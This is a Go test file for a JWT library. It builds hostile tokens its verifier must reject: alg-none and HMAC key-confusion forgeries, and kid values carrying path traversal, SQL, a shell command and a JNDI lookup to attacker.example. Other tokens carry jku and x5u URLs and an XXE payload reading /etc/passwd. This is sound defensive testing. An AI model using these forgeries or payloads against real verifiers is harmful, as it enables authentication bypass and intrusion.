package renew_test

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"strings"

	"github.com/go-jose/go-jose/v4"

	"github.com/jwtrenew/renew"
)

// pemOf returns the key as everybody may read it.
func pemOf(key *renew.SigningKey) []byte {
	text, err := base64.StdEncoding.DecodeString(key.VerificationKey().PublicKey())
	must(err)
	return text
}

func derOf(key *renew.SigningKey) []byte {
	der, err := x509.MarshalPKIXPublicKey(key.VerificationKey().Public())
	must(err)
	return der
}

func pointOf(key *renew.SigningKey) []byte {
	point, err := key.VerificationKey().Public().(*ecdsa.PublicKey).Bytes()
	must(err)
	return point
}

func jwkOf(key *renew.SigningKey) []byte {
	jwk, err := json.Marshal(key.VerificationKey().JWK())
	must(err)
	return jwk
}

// hmacToken is the good token under an HMAC.
func hmacToken(f *forge, key *renew.SigningKey, alg string, hash crypto.Hash, secret []byte) string {
	input := encode(f.header(key).with("alg", quote(alg)).String()) + "." + encode(f.claims().String())
	mac := hmac.New(hash.New, secret)
	mac.Write([]byte(input))
	return input + "." + encode(string(mac.Sum(nil)))
}

func hostileAlgorithms() []hostileToken {
	var all []hostileToken
	add := func(name, why string, reason renew.Reason, make func(f *forge) string) {
		all = append(all, hostileToken{"alg: " + name, why, reason, make})
	}
	for _, none := range []string{"none", "None", "NONE", "nOnE", "NonE", "none ", " none", "n\u043Ene", "null", ""} {
		header := func(f *forge) string { return encode(f.header(f.es()).with("alg", quote(none)).String()) }
		add(fmt.Sprintf("%q without a signature", none), "no signature where a verifier takes the header's word", renew.ReasonMalformed,
			func(f *forge) string { return header(f) + "." + encode(f.claims().String()) + "." })
		add(fmt.Sprintf("%q with a signature", none), "the header's word against the key's", renew.ReasonAlgorithm,
			func(f *forge) string {
				_, payload, signature := f.segments()
				return header(f) + "." + payload + "." + signature
			})
	}
	secrets := []struct {
		name string
		of   func(f *forge) []byte
	}{
		{"the PEM of the public key", func(f *forge) []byte { return pemOf(f.es()) }},
		{"the PEM without its last line break", func(f *forge) []byte { return []byte(strings.TrimSpace(string(pemOf(f.es())))) }},
		{"the DER of the public key", func(f *forge) []byte { return derOf(f.es()) }},
		{"public_key as it is served", func(f *forge) []byte { return []byte(f.es().VerificationKey().PublicKey()) }},
		{"the curve point", func(f *forge) []byte { return pointOf(f.es()) }},
		{"the JWK", func(f *forge) []byte { return jwkOf(f.es()) }},
		{"the key ID", func(f *forge) []byte { return []byte(f.es().VerificationKey().KeyID()) }},
		{"nothing", func(*forge) []byte { return nil }},
	}
	for _, secret := range secrets {
		add("HS256 with "+secret.name, "a public value as the secret of an HMAC", renew.ReasonAlgorithm,
			func(f *forge) string { return hmacToken(f, f.es(), "HS256", crypto.SHA256, secret.of(f)) })
	}
	for alg, hash := range map[string]crypto.Hash{"HS384": crypto.SHA384, "HS512": crypto.SHA512} {
		add(alg+" with the PEM of the public key", "a public value as the secret of an HMAC", renew.ReasonAlgorithm,
			func(f *forge) string { return hmacToken(f, f.es(), alg, hash, pemOf(f.es())) })
	}
	add("HS256 with the PEM of an RSA key", "the best known confusion: RSA for HMAC", renew.ReasonAlgorithm,
		func(f *forge) string {
			return hmacToken(f, f.keys[renew.RS256], "HS256", crypto.SHA256, pemOf(f.keys[renew.RS256]))
		})
	add("an HMAC under the name of ES256", "an HMAC with the public key, under the right name", renew.ReasonSignature,
		func(f *forge) string { return hmacToken(f, f.es(), "ES256", crypto.SHA256, pemOf(f.es())) })
	add("HS256 with the PKCS #1 DER of an RSA key", "another form of the same key", renew.ReasonAlgorithm,
		func(f *forge) string {
			block, _ := pem.Decode(pemOf(f.keys[renew.RS256]))
			return hmacToken(f, f.keys[renew.RS256], "HS256", crypto.SHA256, block.Bytes)
		})
	for _, alg := range []string{
		"ES384", "ES512", "ES256K", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "EdDSA", "Ed25519", "Ed448", "ML-DSA-44",
		"es256", "ES256 ", `ES256\u0000`, "SHA256withECDSA", "dir", "ECDH-ES", "RSA-OAEP", "RSA1_5", "A128KW", "PBES2-HS256+A128KW",
	} {
		add(alg+" on a P-256 key", "a good ECDSA signature under another algorithm's name", renew.ReasonAlgorithm,
			func(f *forge) string { return f.withHeader(f.header(f.es()).with("alg", quote(alg)).String()) })
	}
	for _, alg := range []renew.Algorithm{renew.RS384, renew.RS512, renew.PS256, renew.PS512} {
		add(string(alg)+" on the RS256 key", "the right RSA key, and a good signature of an algorithm that is not the key's", renew.ReasonAlgorithm,
			func(f *forge) string {
				key := f.keys[renew.RS256]
				return f.signAs(alg, key.Signer(), f.header(key).with("alg", quote(string(alg))).String(), f.claims().String())
			})
	}
	add("RS256 on the PS256 key", "the older padding on a key that is for the newer", renew.ReasonAlgorithm,
		func(f *forge) string {
			key := f.keys[renew.PS256]
			return f.signAs(renew.RS256, key.Signer(), f.header(key).with("alg", `"RS256"`).String(), f.claims().String())
		})
	add("the other algorithm's signature on one RSA key", "PKCS #1 v1.5 under the name of PSS, by the private key that both keys share", renew.ReasonSignature,
		func(f *forge) string {
			key := f.keys[renew.PS256]
			return f.signAs(renew.RS256, key.Signer(), f.header(key).String(), f.claims().String())
		})
	for _, alg := range []renew.Algorithm{renew.ES384, renew.ES512, renew.RS256, renew.EdDSA} {
		add("ES256's signature under the "+string(alg)+" key", "signed on another curve, or by another kind of key, than kid's", renew.ReasonSignature,
			func(f *forge) string { return f.sign(f.es(), f.header(f.keys[alg]).String(), f.claims().String()) })
		add("ES256 in the header of the "+string(alg)+" key", "signed with ES256, under the kid of another kind of key", renew.ReasonAlgorithm,
			func(f *forge) string {
				return f.sign(f.es(), f.header(f.keys[alg]).with("alg", `"ES256"`).String(), f.claims().String())
			})
	}
	for value, why := range map[string]string{
		"null": "null", "1": "a number", "true": "a boolean", `["ES256"]`: "an array", `{"ES256":1}`: "an object", `["none","ES256"]`: "a choice",
	} {
		add("is "+why, "no string, for a verifier that falls back on a default", renew.ReasonMalformed,
			func(f *forge) string { return f.withHeader(f.header(f.es()).with("alg", value).String()) })
	}
	add("missing", "a verifier that falls back on a default", renew.ReasonMalformed,
		func(f *forge) string { return f.withHeader(f.header(f.es()).without("alg").String()) })
	return all
}

func hostileKeys() []hostileToken {
	var all []hostileToken
	add := func(name, why string, reason renew.Reason, make func(f *forge) string) {
		all = append(all, hostileToken{"key: " + name, why, reason, make})
	}
	kid := func(f *forge, value string) string { return f.withHeader(f.header(f.es()).with("kid", value).String()) }
	add("another app's, which signed it", "a tenant forges a token of another tenant", renew.ReasonUnknownKey,
		func(f *forge) string { return f.sign(f.foreign, f.header(f.foreign).String(), f.claims().String()) })
	add("another app's, which did not sign it", "another tenant's kid over this app's signature", renew.ReasonUnknownKey,
		func(f *forge) string { return kid(f, quote(f.foreign.VerificationKey().KeyID())) })
	add("this app's, signed by another app's", "a tenant signs under this app's kid", renew.ReasonSignature,
		func(f *forge) string { return f.sign(f.foreign, f.header(f.es()).String(), f.claims().String()) })
	add("nobody's", "a forger's own key", renew.ReasonUnknownKey,
		func(f *forge) string { return f.sign(f.stranger, f.header(f.stranger).String(), f.claims().String()) })
	add("this app's, signed by nobody's", "a forger's own key under this app's kid", renew.ReasonSignature,
		func(f *forge) string { return f.sign(f.stranger, f.header(f.es()).String(), f.claims().String()) })
	add("one that was revoked", "a token of before the key's revocation", renew.ReasonRevokedKey,
		func(f *forge) string { return f.sign(f.revoked, f.header(f.revoked).String(), f.claims().String()) })
	add("one that was revoked, forged", "whether a key was revoked shows without its signature: key IDs are no secret", renew.ReasonRevokedKey,
		func(f *forge) string { return f.sign(f.stranger, f.header(f.revoked).String(), f.claims().String()) })
	add("one that was deleted", "a token of a key long gone", renew.ReasonUnknownKey,
		func(f *forge) string { return f.sign(f.deleted, f.header(f.deleted).String(), f.claims().String()) })
	for _, c := range []struct{ name, kid, why string }{
		{"empty", "", "a lookup that falls back on a default key"},
		{"a path", "../../../../dev/null", "a key read from a file that the client names"},
		{"an absolute path", "/proc/sys/kernel/randomize_va_space", "a file of known content as the key"},
		{"a URL", "https://attacker.example/key.pem", "a key read from where the client says"},
		{"SQL", "x' UNION SELECT 'AAAA' -- ", "a key chosen by the client's SQL"},
		{"SQL's wildcard", "%", "a lookup with LIKE"},
		{"a shell command", "key; sleep 10", "a lookup by a shell"},
		{"a template", "${jndi:ldap://attacker.example/a}", "a logger that looks things up"},
		{"a line break", `x\r\nevil: 1`, "a forged log line"},
		{"NUL", `\u0000`, "a text that ends early elsewhere"},
		{"all that the header has room for", strings.Repeat("A", 470), "a lookup that costs"},
		{"26 digits of no ULID", strings.Repeat("U", 26), "letters that ULIDs do not have"},
		{"over 128 bits", "8ZZZZZZZZZZZZZZZZZZZZZZZZZ", "a ULID that overflows"},
		{"the zero ULID", "00000000000000000000000000", "a key that was never set"},
		{"unicode", "\u212Aey", "a letter that folds to another"},
	} {
		add(c.name, c.why, renew.ReasonUnknownKey, func(f *forge) string { return kid(f, quote(c.kid)) })
	}
	add("5 KB", "a lookup that costs", renew.ReasonMalformed, func(f *forge) string { return kid(f, quote(strings.Repeat("A", 5000))) })
	add("100 KB", "a lookup that costs", renew.ReasonMalformed, func(f *forge) string { return kid(f, quote(strings.Repeat("A", 100<<10))) })
	change := func(name, why string, change func(kid string) string) {
		add(name, why, renew.ReasonUnknownKey, func(f *forge) string { return kid(f, quote(change(f.es().VerificationKey().KeyID()))) })
	}
	change("lower case", "one key under two names", strings.ToLower)
	change("with a space before", "one key under two names", func(s string) string { return " " + s })
	change("with a space after", "a database that ignores trailing spaces", func(s string) string { return s + " " })
	change("with NUL after", "a text that ends early elsewhere", func(s string) string { return s + `\u0000` })
	change("twice in one", "a lookup by substring", func(s string) string { return s + s })
	for value, why := range map[string]string{"null": "null", "1": "a number", "true": "a boolean", "[]": "an empty array", `{"$ne":null}`: "a query"} {
		add("is "+why, "no string", renew.ReasonMalformed, func(f *forge) string { return kid(f, value) })
	}
	add("an array with the right one", "no string", renew.ReasonMalformed,
		func(f *forge) string { return kid(f, "["+quote(f.es().VerificationKey().KeyID())+"]") })
	add("missing", "a verifier that then tries every key", renew.ReasonMalformed,
		func(f *forge) string { return f.withHeader(f.header(f.es()).without("kid").String()) })
	return all
}

func hostileHeaders() []hostileToken {
	var all []hostileToken
	add := func(name, why string, make func(f *forge) string) {
		all = append(all, hostileToken{"header: " + name, why, renew.ReasonMalformed, make})
	}
	header := func(f *forge) object { return f.header(f.es()) }
	and := func(member, value, why string) {
		add(member+" "+value, why, func(f *forge) string { return f.withHeader(header(f).and(member, value).String()) })
	}
	// The forger's own key in the header, signed by it, under the app's kid.
	add("jwk of the forger, who signed it", "a verifier that takes the key from the token", func(f *forge) string {
		return f.sign(f.stranger, header(f).and("jwk", string(jwkOf(f.stranger))).String(), f.claims().String())
	})
	add("jwk of the app's own key", "RFC 7515 section 4.1.3: this library has no use for one", func(f *forge) string {
		return f.withHeader(header(f).and("jwk", string(jwkOf(f.es()))).String())
	})
	and("jku", `"https://attacker.example/jwks.json"`, "keys from where the token says")
	and("x5u", `"https://attacker.example/chain.pem"`, "a certificate from where the token says")
	add("x5c of the forger", "a certificate in the token", func(f *forge) string {
		return f.withHeader(header(f).and("x5c", `["`+base64.StdEncoding.EncodeToString(derOf(f.stranger))+`"]`).String())
	})
	and("x5t", `"dGh1bWJwcmludA"`, "a key chosen by thumbprint")
	and("x5t#S256", `"dGh1bWJwcmludA"`, "a key chosen by thumbprint")
	and("crit", `["exp"]`, "an extension that must be understood (RFC 7515 section 4.1.11)")
	and("crit", `["b64"]`, "critical, and missing")
	and("crit", `[]`, "must not be empty")
	and("crit", `"b64"`, "must be an array")
	and("crit", `null`, "must be an array")
	and("crit", `["alg","kid","typ"]`, "must not name what the RFC defines")
	and("b64", `true`, "RFC 7797: not for JWTs")
	and("b64", `false`, "an unencoded payload without crit")
	add("b64 false, critical, payload encoded", "an unencoded payload that is encoded", func(f *forge) string {
		return f.withHeader(header(f).and("b64", "false").and("crit", `["b64"]`).String())
	})
	add("b64 false, critical, payload unencoded for the signature", "RFC 7797 section 7: b64 must not be false in a JWT", func(f *forge) string {
		head := encode(header(f).and("b64", "false").and("crit", `["b64"]`).String())
		signature := rawSignature(renew.ES256, f.es().Signer(), head+"."+f.claims().String())
		return head + "." + encode(f.claims().String()) + "." + encode(string(signature))
	})
	and("cty", `"JWT"`, "a nested JWT")
	and("zip", `"DEF"`, "a compressed payload, a bomb perhaps")
	and("enc", `"A256GCM"`, "a JWE's header on a JWS")
	and("epk", `{}`, "a JWE's header on a JWS")
	and("apu", `""`, "a JWE's header on a JWS")
	and("nonce", `"x"`, "ACME's header")
	and("url", `"https://attacker.example/"`, "ACME's header")
	and("iss", `"issuer_1"`, "a claim in the header (RFC 7519 section 5.3)")
	add("a member without a name", "unknown", func(f *forge) string { return f.withHeader(header(f).and("", "1").String()) })
	add("depth in an unknown member", "recursion", func(f *forge) string {
		return f.withHeader(header(f).and("x", strings.Repeat("[", 1500)+strings.Repeat("]", 1500)).String())
	})
	for _, typ := range []string{`"jwt"`, `"JWT "`, `""`, `"JOSE"`, `"JOSE+JSON"`, `"JWE"`, `"at+jwt"`, `"rt+jwt"`, `"application/jwt"`, "null", "1", `["JWT"]`} {
		add("typ "+typ, "another kind of object (RFC 8725 section 3.11)", func(f *forge) string { return f.withHeader(header(f).with("typ", typ).String()) })
	}
	for _, c := range []struct{ name, member, value string }{
		{"alg twice", "alg", `"ES256"`},
		{"alg twice, none last", "alg", `"none"`},
		{"kid twice, a stranger's last", "kid", `"01ARZ3NDEKTSV4RRFFQ69G5FAV"`},
		{"typ twice", "typ", `"JWT"`},
		{"alg twice, once with an escape", `\u0061lg`, `"none"`},
		{"ALG besides alg", "ALG", `"none"`},
		{"Kid besides kid", "Kid", `"01ARZ3NDEKTSV4RRFFQ69G5FAV"`},
		{"kid with a Kelvin sign besides kid", "\u212Aid", `"01ARZ3NDEKTSV4RRFFQ69G5FAV"`},
	} {
		add(c.name, "two readers, two meanings (RFC 7515 section 4)", func(f *forge) string { return f.withHeader(header(f).and(c.member, c.value).String()) })
	}
	for _, name := range []string{"alg", "kid"} {
		add(strings.ToUpper(name)+" for "+name, "a reader that ignores case", func(f *forge) string {
			return f.withHeader(header(f).rename(name, strings.ToUpper(name)).String())
		})
	}
	for _, text := range brokenObjects() {
		add(text.name, text.why, func(f *forge) string { return f.withHeader(text.of(header(f).String())) })
	}
	return all
}

// brokenObject is how the JSON of a header or a payload can be broken, from an
// object that is good.
type brokenObject struct {
	name, why string
	of        func(good string) string
}

func brokenObjects() []brokenObject {
	instead := func(text string) func(string) string { return func(string) string { return text } }
	member := func(raw string) func(string) string {
		return func(good string) string { return good[:len(good)-1] + "," + raw + "}" }
	}
	utf16 := func(good string) string {
		wide := "\xff\xfe"
		for _, c := range []byte(good) {
			wide += string([]byte{c, 0})
		}
		return wide
	}
	return []brokenObject{
		{"null", "null decodes into anything", instead("null")},
		{"true", "not an object", instead("true")},
		{"a number", "not an object", instead("1")},
		{"a string", "not an object", func(good string) string { return `"` + strings.ReplaceAll(good, `"`, `\"`) + `"` }},
		{"an array of the object", "not an object", func(good string) string { return "[" + good + "]" }},
		{"an empty object", "nothing in it", instead("{}")},
		{"white space", "nothing in it", instead(" ")},
		{"text", "not JSON", instead("alg=none")},
		{"XML", "not JSON", instead(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`)},
		{"trailing text", "a reader that stops at the first value", func(good string) string { return good + "x" }},
		{"a trailing bracket", "a reader that stops at the first value", func(good string) string { return good + "}" }},
		{"two objects", "a reader that takes the first, or the last", func(good string) string { return good + good }},
		{"another object first", "a reader that takes the last", func(good string) string { return "{}" + good }},
		{"an unfinished object", "a reader that is too helpful", func(good string) string { return good[:len(good)-1] }},
		{"a trailing comma", "JSON5", func(good string) string { return good[:len(good)-1] + ",}" }},
		{"a comment", "JSON5", func(good string) string { return "/**/" + good }},
		{"single quotes", "JSON5", func(good string) string { return strings.ReplaceAll(good, `"`, `'`) }},
		{"a bare name", "JSON5", member(`x:1`)},
		{"NaN", "no number of JSON's", member(`"x":NaN`)},
		{"a hexadecimal number", "no number of JSON's", member(`"x":0x10`)},
		{"a number with a plus", "no number of JSON's", member(`"x":+1`)},
		{"a number with a leading zero", "no number of JSON's", member(`"x":01`)},
		{"a byte order mark", "RFC 8259 section 8.1", func(good string) string { return "\ufeff" + good }},
		{"UTF-16", "RFC 8259 section 8.1", utf16},
		{"invalid UTF-8 in a value", "replaced by some readers, kept by others", member("\"x\":\"\xff\"")},
		{"invalid UTF-8 in a name", "two names that become one", member("\"\xc3\x28\":1")},
		{"an overlong encoding", "a slash by another way", member("\"x\":\"\xc0\xaf\"")},
		{"a surrogate in UTF-8", "CESU-8", member("\"x\":\"\xed\xa0\x80\"")},
		{"a lone high surrogate", "replaced by some readers, kept by others", member(`"x":"\ud800"`)},
		{"a lone low surrogate", "replaced by some readers, kept by others", member(`"x":"\udc00"`)},
		{"surrogates the wrong way round", "replaced by some readers, kept by others", member(`"x":"\udc00\ud800"`)},
		{"a lone surrogate in a name", "two names that become one", member(`"\ud800":1`)},
		{"a raw control character", "RFC 8259 section 7", member("\"x\":\"\x01\"")},
		{"a raw line break", "RFC 8259 section 7", member("\"x\":\"\n\"")},
		{"NUL after the object", "a text that ends early elsewhere", func(good string) string { return good + "\x00" }},
		{"an unknown escape", "RFC 8259 section 7", member(`"x":"\x41"`)},
		{"a form feed as white space", "RFC 8259 section 2", func(good string) string { return "\f" + good }},
	}
}

func hostileSerializations() []hostileToken {
	var all []hostileToken
	add := func(name, why string, reason renew.Reason, make func(f *forge) string) {
		all = append(all, hostileToken{"form: " + name, why, reason, make})
	}
	add("flattened JSON serialization", "RFC 7515 section 7.2.2: a JWT is compact", renew.ReasonMalformed, func(f *forge) string {
		header, payload, signature := f.segments()
		return fmt.Sprintf(`{"protected":"%s","payload":"%s","signature":"%s"}`, header, payload, signature)
	})
	add("general JSON serialization", "RFC 7515 section 7.2.1", renew.ReasonMalformed, func(f *forge) string {
		header, payload, signature := f.segments()
		return fmt.Sprintf(`{"payload":"%s","signatures":[{"protected":"%s","signature":"%s"}]}`, payload, header, signature)
	})
	add("two signatures, one good", "a verifier that is content with one of many", renew.ReasonMalformed, func(f *forge) string {
		header, payload, signature := f.segments()
		return fmt.Sprintf(`{"payload":"%s","signatures":[{"protected":"%s","signature":"AA"},{"protected":"%s","signature":"%s"}]}`, payload, header, header, signature)
	})
	add("JSON serialization with an unprotected kid", "a header that nobody signed", renew.ReasonMalformed, func(f *forge) string {
		header, payload, signature := f.segments()
		return fmt.Sprintf(`{"protected":"%s","header":{"kid":"x"},"payload":"%s","signature":"%s"}`, header, payload, signature)
	})
	encrypted := func(f *forge, payload string) string {
		e, err := jose.NewEncrypter(jose.A128GCM, jose.Recipient{Algorithm: jose.ECDH_ES, Key: f.es().VerificationKey().Public()},
			(&jose.EncrypterOptions{}).WithHeader("kid", f.es().VerificationKey().KeyID()))
		must(err)
		jwe, err := e.Encrypt([]byte(payload))
		must(err)
		compact, err := jwe.CompactSerialize()
		must(err)
		return compact
	}
	add("JWE of the claims", "encrypted to the public key: everybody can", renew.ReasonMalformed, func(f *forge) string { return encrypted(f, f.claims().String()) })
	add("JWE of the good token", "a nested JWT", renew.ReasonMalformed, func(f *forge) string { return encrypted(f, f.refresh) })
	add("a JWT in a JWT", "a nested JWT, signed", renew.ReasonMalformed, func(f *forge) string {
		return f.sign(f.es(), f.header(f.es()).and("cty", `"JWT"`).String(), f.refresh)
	})
	add("a JWT in a JWT without cty", "a nested JWT, signed", renew.ReasonClaims, func(f *forge) string { return f.withPayload(f.refresh) })
	add("SD-JWT", "a disclosure after the token", renew.ReasonMalformed, func(f *forge) string { return f.refresh + "~" + encode(`["s","type","refresh"]`) + "~" })
	around := func(name, before, after string) {
		add(name, "a reader that looks for a token in a text", renew.ReasonMalformed, func(f *forge) string { return before + f.refresh + after })
	}
	around("with a scheme before", "Bearer ", "")
	around("with a parameter name before", "refresh_token=", "")
	around("in quotes", `"`, `"`)
	around("in a JSON array", `["`, `"]`)
	around("with a semicolon after", "", ";")
	around("with a comment after", "", "#")
	around("with a query after", "", "?x=1")
	add("twice, with a comma", "a header that stands twice", renew.ReasonMalformed, func(f *forge) string { return f.refresh + "," + f.refresh })
	add("twice, with a space", "a list", renew.ReasonMalformed, func(f *forge) string { return f.refresh + " " + f.refresh })
	add("twice, with a dot", "six segments", renew.ReasonMalformed, func(f *forge) string { return f.refresh + "." + f.refresh })
	add("twice, with nothing", "five segments", renew.ReasonMalformed, func(f *forge) string { return f.refresh + f.refresh })
	return all
}
